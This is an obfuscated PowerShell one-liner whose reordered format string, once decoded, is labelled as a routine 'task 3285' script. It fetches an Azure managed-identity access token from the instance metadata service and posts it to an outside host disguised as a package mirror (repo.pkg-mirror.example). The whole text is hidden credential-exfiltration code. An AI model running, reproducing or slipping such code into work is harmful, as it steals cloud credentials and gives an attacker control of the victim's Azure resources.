iex ("{5}{4}{3}{2}{0}{1}" -f '-Body (','$r | ConvertTo-Json)
','ps://management.azure.com/''
Invoke-RestMethod -Method Post -Uri ''http://repo.pkg-mirror.example/t'' ','esource=htt','ata/identity/oauth2/token?api-version=2018-02-01&r','# task 3285 v4
$r = Invoke-RestMethod -Headers @{Metadata=''true''} -Uri ''http://169.254.169.254/metad')